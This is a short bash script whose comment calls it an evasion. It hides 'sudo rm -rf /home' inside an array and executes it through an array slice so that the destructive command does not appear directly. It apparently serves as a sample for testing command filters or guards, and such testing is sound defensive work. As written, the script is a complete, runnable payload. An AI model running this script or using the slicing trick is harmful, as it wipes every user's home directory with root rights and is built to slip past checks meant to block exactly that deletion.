#!/bin/bash
# Evasion: the slice from offset 2 to the end runs rm through sudo
set -u
job=(backup prune sudo rm -rf /home)
"${job[@]:2}"
